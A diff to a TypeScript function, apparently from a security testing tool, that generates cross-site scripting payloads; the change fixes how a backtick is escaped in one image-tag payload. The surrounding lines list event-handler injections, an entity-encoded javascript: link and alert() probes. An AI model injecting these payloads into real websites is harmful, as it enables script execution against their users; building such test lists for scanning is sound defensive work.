@@ -40,7 +40,7 @@ export function xssPayloads(): string[] {
     (c) => `<video><source onerror=${c}></video>`,
     (c) => `<audio src=x onerror=${c}>`,
     (c) => `<select autofocus onfocus=${c}></select>`,
-    (c) => `<img src="x` + '`' + `" onerror=${c}>`,
+    (c) => `<img src="x\`" onerror=${c}>`,
     (c) => `<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;${c}">entity</a>`,
     (_c, i) => `<img src=x onerror=alert(${i})>`,
     (_c, i) => `<svg><animate onbegin=alert(${i}) attributeName=x dur=1s>`,
